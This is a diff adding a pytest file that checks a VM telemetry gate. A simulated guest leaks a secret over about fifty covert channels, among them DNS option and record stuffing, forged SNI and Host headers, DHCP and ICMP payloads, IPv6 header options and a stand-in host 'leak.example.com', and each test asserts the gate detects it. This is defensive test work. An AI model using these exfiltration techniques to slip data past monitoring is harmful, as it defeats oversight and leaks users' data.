@@ -1,0 +1,426 @@
+"""A guest that knows how it is watched: whatever it hides its traffic behind, there is a finding."""
+
+from __future__ import annotations
+
+import struct
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from net_samples import ACK, MAC, PSH, SYN, Guest, client_hello, dhcp_message, tcp_packet, with_extension
+from test_observe_telemetry import FAR, NONCE, _observe
+
+from pytest_osgates.checks.telemetry import GATE, TelemetryPolicy
+from pytest_osgates.model import Severity
+from pytest_osgates.vm.network import arp, dhcp, dns, wire
+
+ALLOWED = "ok.example.org"
+ALLOW = {"name": ALLOWED, "services": ["tcp:443", "tcp:80"], "reason": "the mirror of the test"}
+POLICY = TelemetryPolicy.model_validate({"idle_s": 5, "allow": [ALLOW]})
+CANARY = f"{NONCE}-middle.osgates-canary.example.net"
+SPY = "leak.example.com"
+SECRET = b"the user's secret, in the clear" * 8
+LINK_LOCAL = b"\xfe\x80" + bytes(13) + b"\x77"
+ALL_ROUTERS = bytes.fromhex("ff020000000000000000000000000002")
+Leak = Callable[[Guest], object]
+
+
+def _violations(directory: Path, leak: Leak) -> set[tuple[str, str]]:
+    def once(guest: Guest, when: str) -> None:
+        if when == "idle":
+            leak(guest)
+
+    seen = _observe(directory, once)
+    decisive = {Severity.VIOLATION, Severity.UNPROVEN}
+    return {finding.key for finding in GATE.judge(seen, POLICY) if finding.severity in decisive}
+
+
+def _address(guest: Guest, name: str = ALLOWED) -> bytes:
+    """Asked for honestly."""
+    (answer,) = guest.udp(guest.settings.resolver, 53, dns.query(name), sport=40100)
+    return wire.address_of(dns.parse(answer).records[0].value)
+
+
+def _segment(
+    guest: Guest, dst: bytes, dport: int, seq: int, flags: int, data: bytes = b"", sport: int = 50100
+) -> None:
+    guest.packet(tcp_packet(guest.ip, dst, sport, dport, seq, 1, flags, data))
+
+
+def _icmp6(guest: Guest, dst: bytes, kind: int, body: bytes, src: bytes = LINK_LOCAL) -> None:
+    message = wire.with_checksum(src, dst, wire.ICMPV6, bytes((kind, 0, 0, 0)) + body, 2)
+    guest.packet(wire.ip(src, dst, wire.ICMPV6, message, 255))
+
+
+def _icmp(guest: Guest, dst: bytes, kind: int, body: bytes) -> None:
+    message = bytes((kind, 3, 0, 0)) + body
+    message = message[:2] + wire.checksum(message).to_bytes(2, "big") + message[4:]
+    guest.packet(wire.ip(guest.ip, dst, wire.ICMP, message))
+
+
+def _with_options(packet: bytes, options: bytes) -> bytes:
+    """An IPv4 packet (behind its EtherType) with options."""
+    head, rest = bytearray(packet[2:22]), packet[22:]
+    head[0] = 0x45 + len(options) // 4
+    head[2:4] = (len(packet) - 2 + len(options)).to_bytes(2, "big")
+    head[10:12] = b"\0\0"
+    head[10:12] = wire.checksum(bytes(head) + options).to_bytes(2, "big")
+    return packet[:2] + bytes(head) + options + rest
+
+
+def _query(guest: Guest, data: bytes, name: str = CANARY) -> bytes:
+    packet = dns.query(name) + data
+    return wire.ip(
+        guest.ip, guest.settings.resolver, 17, wire.udp(guest.ip, 40200, guest.settings.resolver, 53, packet)
+    )
+
+
+# -- who began
+# -------------------------------------------------------------------------------------------------------------
+
+
+def _answers_first(guest: Guest) -> None:
+    """As if the other side had called: SYN and ACK at once, then what is to get out."""
+    _segment(guest, FAR, 443, 1, SYN | ACK)
+    _segment(guest, FAR, 443, 2, ACK | PSH, SECRET)
+
+
+def _after_advertisement(guest: Guest) -> None:
+    """The router spoke to it first."""
+    _icmp6(guest, ALL_ROUTERS, 133, bytes(4))
+    _icmp6(guest, guest.settings.link_local, 128, b"\0\1\0\1" + SECRET)
+    _icmp6(guest, guest.settings.link_local, 136, b"\x60\0\0\0" + LINK_LOCAL)
+
+
+def _as_the_server(guest: Guest) -> None:
+    """From the addresses and ports that DHCP's answers have."""
+    src, dst = guest.settings.gateway, b"\xff" * 4
+    guest.packet(wire.ip(src, dst, 17, wire.udp(src, 67, dst, 68, SECRET)))
+
+
+def _as_the_resolver(guest: Guest) -> None:
+    src, dst = guest.settings.resolver, guest.ip
+    guest.packet(wire.ip(src, dst, 17, wire.udp(src, 53, dst, 41000, dns.query(ALLOWED))))
+
+
+# -- canaries
+# -------------------------------------------------------------------------------------------------------------
+
+
+def _below_the_canary(guest: Guest) -> None:
+    guest.udp(guest.settings.resolver, 53, dns.query(f"{CANARY}.{SPY}"))
+
+
+def _canary_elsewhere(guest: Guest) -> None:
+    guest.udp(FAR, 53, dns.query(CANARY))
+
+
+def _canary_often(guest: Guest) -> None:
+    for number in range(40):
+        guest.udp(guest.settings.resolver, 53, dns.query(CANARY, ident=number), sport=43000 + number)
+
+
+def _canary_text(guest: Guest) -> None:
+    guest.udp(guest.settings.resolver, 53, dns.query(CANARY, dns.TXT))
+
+
+def _canary_again(guest: Guest) -> None:
+    for port in range(5):
+        guest.udp(bytes((192, 0, 2, 101)), 9, f"{NONCE}-start".encode(), sport=43000 + port)
+
+
+def _canary_altered(guest: Guest) -> None:
+    guest.udp(bytes((192, 0, 2, 102)), 9, f"{NONCE}-secret".encode(), sport=43000)
+
+
+def _complaint_to_the_canary(guest: Guest) -> None:
+    _icmp(guest, bytes((192, 0, 2, 101)), 3, bytes(4) + SECRET)
+
+
+# -- names
+# -------------------------------------------------------------------------------------------------------------
+
+
+def _two_questions(guest: Guest) -> None:
+    query = struct.pack("!HHHHHH", 7, 0x0100, 2, 0, 0, 0)
+    query += b"".join(dns.write_name(name) + b"\0\1\0\1" for name in (ALLOWED, SPY))
+    guest.udp(guest.settings.resolver, 53, query)
+
+
+def _option(guest: Guest) -> None:
+    query = bytearray(dns.query(ALLOWED))
+    query[10:12] = b"\0\1"
+    option = struct.pack("!HH", 65001, len(SECRET)) + SECRET
+    guest.udp(
+        guest.settings.resolver, 53, bytes(query) + b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option
+    )
+
+
+def _additional(guest: Guest) -> None:
+    query = bytearray(dns.query(ALLOWED))
+    query[10:12] = b"\0\1"
+    record = dns.write_name(SPY) + struct.pack("!HHIH", 16, 1, 0, len(SECRET)) + SECRET
+    guest.udp(guest.settings.resolver, 53, bytes(query) + record)
+
+
+def _behind_the_question(guest: Guest) -> None:
+    guest.udp(guest.settings.resolver, 53, dns.query(ALLOWED) + SECRET)
+
+
+def _update(guest: Guest) -> None:
+    query = dns.query(ALLOWED, dns.SOA)
+    guest.udp(guest.settings.resolver, 53, query[:2] + b"\x28\0" + query[4:])
+
+
+def _behind_the_stream(guest: Guest) -> None:
+    query = dns.query(ALLOWED)
+    guest.tcp(guest.settings.resolver, 53).say(len(query).to_bytes(2, "big") + query + b"\xff\xff" + SECRET)
+
+
+def _beside_the_stream(guest: Guest) -> None:
+    connection = guest.tcp(guest.settings.resolver, 53)
+    query = dns.query(ALLOWED)
+    connection.say(len(query).to_bytes(2, "big") + query)
+    _segment(guest, guest.settings.resolver, 53, connection.seq + 10, ACK | PSH, SECRET, 50000)
+
+
+def _in_the_greeting(guest: Guest) -> None:
+    query = dns.query(ALLOWED)
+    guest.tcp(guest.settings.resolver, 53).say(len(query).to_bytes(2, "big") + query)
+    _segment(guest, guest.settings.resolver, 53, 70_000, SYN, SECRET, 50000)
+
+
+def _pointed_at(guest: Guest) -> None:
+    """A name that is a pointer into the header: the same bytes are another name each time."""
+    for text in (b"ok", b"no"):
+        head = bytes((2, *text, 0)) + b"\0\1\0\0\0\0\0\0"
+        guest.udp(guest.settings.resolver, 53, head + b"\xc0\0" + b"\0\1\0\1")
+
+
+def _false_name(guest: Guest) -> None:
+    guest.tcp(FAR, 443).say(client_hello(ALLOWED))
+
+
+def _false_host(guest: Guest) -> None:
+    guest.tcp(FAR, 80).say(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode())
+
+
+def _forged_answer(guest: Guest) -> None:
+    """Says to itself, in an allowed connection, that an address is the allowed name's."""
+    address = _address(guest)
+    query = dns.query(ALLOWED)
+    answer = dns.answer(query, dns.parse_question(query), FAR, b"")
+    guest.tcp(address, 443, sport=53).say(len(answer).to_bytes(2, "big") + answer)
+    guest.tcp(FAR, 443)
+
+
+def _hidden_behind_others(guest: Guest) -> None:
+    """One connection after the other between the same ports: names beyond what is remembered."""
+    address = _address(guest)
+    for number in range(60):
+        guest.tcp(address, 443, sport=50200).say(f"GET /{number} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode())
+    hello = with_extension(client_hello(ALLOWED), 0xFE0D, bytes(40))
+    guest.tcp(address, 443, sport=50200).say(hello)
+    for number in range(60):
+        guest.tcp(address, 443, sport=50201).say(client_hello(f"x{number}.{ALLOWED}"))
+
+
+def _hello_after_a_letter(guest: Guest) -> None:
+    """A connection that said one letter, then another between the same ports."""
+    address = _address(guest)
+    guest.tcp(address, 443, sport=50200).say(b"G")
+    connection = guest.tcp(address, 443, sport=50200)
+    connection.abort()
+    _segment(guest, address, 443, 90_000, SYN, b"", 50200)
+    _segment(guest, address, 443, 90_001, ACK | PSH, client_hello(SPY), 50200)
+
+
+def _encrypted_twice(guest: Guest) -> None:
+    """Encrypted DNS may be allowed, a hidden name may not."""
+    address = _address(guest)
+    guest.tcp(address, 443).say(with_extension(client_hello(ALLOWED, ["dot"]), 0xFE0D, bytes(40)))
+
+
+# -- the link
+# -------------------------------------------------------------------------------------------------------------
+
+
+def _ports_of_dhcp(guest: Guest) -> None:
+    guest.udp(b"\xff" * 4, 68, SECRET, sport=67)
+
+
+def _ports_of_dhcpv6(guest: Guest) -> None:
+    guest.udp(guest.settings.gateway, 9999, SECRET, sport=547)
+
+
+def _dhcp_options(*options: tuple[int, bytes]) -> Leak:
+    return lambda guest: guest.udp(b"\xff" * 4, 67, dhcp_message(3, *options), sport=68, src=bytes(4))
+
+
+def _dhcp_of_the_gateway(guest: Guest) -> None:
+    message = dhcp_message(3, (12, b"my-laptop"), mac=guest.settings.hardware)
+    guest.udp(b"\xff" * 4, 67, message, sport=68, src=bytes(4))
+
+
+def _dhcp_of_another(guest: Guest) -> None:
+    other = b"secret"
+    message = dhcp_message(3, (61, b"\1" + other), mac=other)
+    guest.udp(b"\xff" * 4, 67, message, sport=68, src=bytes(4))
+
+
+def _dhcp_file(guest: Guest) -> None:
+    message = bytearray(dhcp_message(3))
+    message[108 : 108 + 100] = SECRET[:100]
+    guest.udp(b"\xff" * 4, 67, bytes(message), sport=68, src=bytes(4))
+
+
+def _dhcp_end(guest: Guest) -> None:
+    guest.udp(b"\xff" * 4, 67, dhcp_message(3) + SECRET, sport=68, src=bytes(4))
+
+
+def _dhcpv6_option(guest: Guest) -> None:
+    message = b"\x0b\1\2\3" + struct.pack("!HH", 17, len(SECRET)) + SECRET
+    guest.udp(bytes.fromhex("ff020000000000000000000000010002"), 547, message, sport=546, src=LINK_LOCAL)
+
+
+def _stamp_to_the_gateway(guest: Guest) -> None:
+    _icmp(guest, guest.settings.gateway, 13, SECRET)
+
+
+def _icmp_fragments(guest: Guest) -> None:
+    packet = bytearray(wire.ip(guest.ip, guest.settings.gateway, wire.ICMP, SECRET))
+    packet[8:10] = b"\x20\0"
+    packet[12:14] = b"\0\0"
+    packet[12:14] = wire.checksum(bytes(packet[2:22])).to_bytes(2, "big")
+    guest.packet(bytes(packet))
+
+
+def _groups(guest: Guest) -> None:
+    dst = bytes((224, 0, 0, 22))
+    guest.packet(wire.ip(guest.ip, dst, wire.IGMP, b"\x22\0\0\0" + SECRET, 1))
+
+
+def _router(guest: Guest) -> None:
+    dst = bytes.fromhex("ff020000000000000000000000000001")
+    _icmp6(guest, dst, 134, bytes(12) + b"\x1f" + bytes((1 + len(SECRET) // 8,)) + bytes(6) + SECRET)
+
+
+def _neighbour_option(guest: Guest) -> None:
+    target = guest.settings.link_local
+    option = bytes((253, (len(SECRET) + 8) // 8)) + bytes(6) + SECRET
+    _icmp6(guest, target, 135, bytes(4) + target + option)
+
+
+def _listener(guest: Guest) -> None:
+    _icmp6(guest, bytes.fromhex("ff020000000000000000000000000016"), 143, b"\0\0\0\0" + SECRET)
+
+
+def _source_route(guest: Guest) -> None:
+    packet = _query(guest, b"", ALLOWED)
+    guest.packet(_with_options(packet, b"\x83\x07\x04" + FAR + b"\0"))
+
+
+def _routing_header(guest: Guest) -> None:
+    src, dst = guest.settings.prefix + bytes(7) + b"\x77", guest.settings.resolver6
+    far = bytes.fromhex("20010db800aa00000000000000000007")
+    datagram = wire.udp(src, 40200, dst, 53, dns.query(ALLOWED))
+    header = bytes((17, 2, 0, 1, 0, 0, 0, 0)) + far
+    guest.packet(wire.ip(src, dst, 43, header + datagram))
+
+
+def _hop_options(guest: Guest) -> None:
+    src, dst = guest.settings.prefix + bytes(7) + b"\x77", guest.settings.resolver6
+    datagram = wire.udp(src, 40200, dst, 53, dns.query(ALLOWED))
+    data = SECRET[:200]
+    header = bytes((17, (4 + len(data)) // 8, 0x3E, len(data))) + data
+    header += bytes(-len(header) % 8)
+    guest.packet(wire.ip(src, dst, 60, bytes((17, len(header) // 8 - 1)) + header[2:] + datagram))
+
+
+def _behind_the_packet(guest: Guest) -> None:
+    guest.packet(_query(guest, b"", ALLOWED) + SECRET)
+
+
+def _behind_the_datagram(guest: Guest) -> None:
+    resolver = guest.settings.resolver
+    datagram = wire.udp(guest.ip, 40200, resolver, 53, dns.query(ALLOWED))
+    guest.packet(wire.ip(guest.ip, resolver, 17, datagram + SECRET))
+
+
+def _behind_arp(guest: Guest) -> None:
+    guest.packet(arp.request(MAC, guest.ip, guest.settings.gateway) + SECRET)
+
+
+def _arp_for_far(guest: Guest) -> None:
+    guest.packet(arp.request(MAC, guest.ip, FAR))
+
+
+def _arp_of_the_gateway(guest: Guest) -> None:
+    guest.packet(arp.request(guest.settings.hardware, guest.ip, FAR))
+
+
+def _arp_often(guest: Guest) -> None:
+    for number in range(100):
+        guest.packet(arp.request(MAC, guest.ip, guest.settings.ipv4(100 + number)))
+
+
+FAR_TEXT = "203.0.113.7"
+LEAKS: dict[str, tuple[Leak, tuple[str, str]]] = {
+    "answers first": (_answers_first, ("literal-address", FAR_TEXT)),
+    "after the router": (_after_advertisement, ("literal-address", "fe80::2")),
+    "as the DHCP server": (_as_the_server, ("multicast", "255.255.255.255")),
+    "as the resolver": (_as_the_resolver, ("literal-address", "10.0.2.3")),
+    "below the canary": (_below_the_canary, ("contact", f"{CANARY}.{SPY}")),
+    "the canary elsewhere": (_canary_elsewhere, ("literal-address", FAR_TEXT)),
+    "the canary often": (_canary_often, ("contact", CANARY)),
+    "the canary's text": (_canary_text, ("contact", CANARY)),
+    "the canary again": (_canary_again, ("literal-address", "192.0.2.101")),
+    "the canary altered": (_canary_altered, ("literal-address", "192.0.2.102")),
+    "a complaint to the canary": (_complaint_to_the_canary, ("literal-address", "192.0.2.101")),
+    "two questions": (_two_questions, ("contact", SPY)),
+    "an EDNS option": (_option, ("literal-address", "10.0.2.3")),
+    "an additional record": (_additional, ("literal-address", "10.0.2.3")),
+    "behind the question": (_behind_the_question, ("literal-address", "10.0.2.3")),
+    "a dynamic update": (_update, ("literal-address", "10.0.2.3")),
+    "behind a DNS stream": (_behind_the_stream, ("literal-address", "10.0.2.3")),
+    "beside a DNS stream": (_beside_the_stream, ("literal-address", "10.0.2.3")),
+    "in the SYN of a DNS stream": (_in_the_greeting, ("literal-address", "10.0.2.3")),
+    "a name that is a pointer": (_pointed_at, ("contact", "no")),
+    "a false SNI": (_false_name, ("contact", ALLOWED)),
+    "a false Host": (_false_host, ("contact", ALLOWED)),
+    "a forged answer": (_forged_answer, ("literal-address", FAR_TEXT)),
+    "behind sixty connections": (_hidden_behind_others, ("ech", ALLOWED)),
+    "a hello after a letter": (_hello_after_a_letter, ("contact", SPY)),
+    "ECH in DoT": (_encrypted_twice, ("ech", ALLOWED)),
+    "DHCP's ports": (_ports_of_dhcp, ("multicast", "255.255.255.255")),
+    "DHCPv6's ports": (_ports_of_dhcpv6, ("literal-address", "10.0.2.2")),
+    "a UUID in DHCP": (_dhcp_options((97, b"\0uuid")), ("dhcp-option", "97: 0075756964")),
+    "two names in DHCP": (_dhcp_options((12, b"host"), (81, b"\0\0\0laptop")), ("dhcp-host-name", "laptop")),
+    "DHCP of the gateway": (_dhcp_of_the_gateway, ("dhcp-host-name", "my-laptop")),
+    "DHCP of another card": (_dhcp_of_another, ("dhcp-hardware-address", "73:65:63:72:65:74")),
+    "a file name in DHCP": (_dhcp_file, ("dhcp-option", dhcp.shown("file", SECRET[:100]))),
+    "behind DHCP's end": (_dhcp_end, ("dhcp-option", dhcp.shown("behind the end", SECRET))),
+    "an option of DHCPv6": (_dhcpv6_option, ("dhcpv6-option", dhcp.shown("17", SECRET))),
+    "a time stamp for the gateway": (_stamp_to_the_gateway, ("literal-address", "10.0.2.2")),
+    "fragments of ICMP": (_icmp_fragments, ("literal-address", "10.0.2.2")),
+    "a report of groups": (_groups, ("unparsed", "card 0")),
+    "a router": (_router, ("multicast", "ff02::1")),
+    "an option for a neighbour": (_neighbour_option, ("unparsed", "card 0")),
+    "a report of listeners": (_listener, ("unparsed", "card 0")),
+    "a source route": (_source_route, ("ip-options", "IPv4 option 131")),
+    "a routing header": (_routing_header, ("ip-options", "IPv6 routing header")),
+    "options of IPv6": (_hop_options, ("ip-options", "IPv6 option 62")),
+    "behind the packet": (_behind_the_packet, ("unparsed", "card 0")),
+    "behind the datagram": (_behind_the_datagram, ("unparsed", "card 0")),
+    "behind ARP": (_behind_arp, ("unparsed", "card 0")),
+    "ARP for somebody far away": (_arp_for_far, ("arp", FAR_TEXT)),
+    "ARP of the gateway": (_arp_of_the_gateway, ("arp", FAR_TEXT)),
+    "ARP for many": (_arp_often, ("arp", "many addresses")),
+}
+
+
+@pytest.mark.parametrize("how", list(LEAKS))
+def test_nothing_is_hidden(how: str, tmp_path: Path) -> None:
+    leak, expected = LEAKS[how]
+    found = _violations(tmp_path, leak)
+    assert expected in found
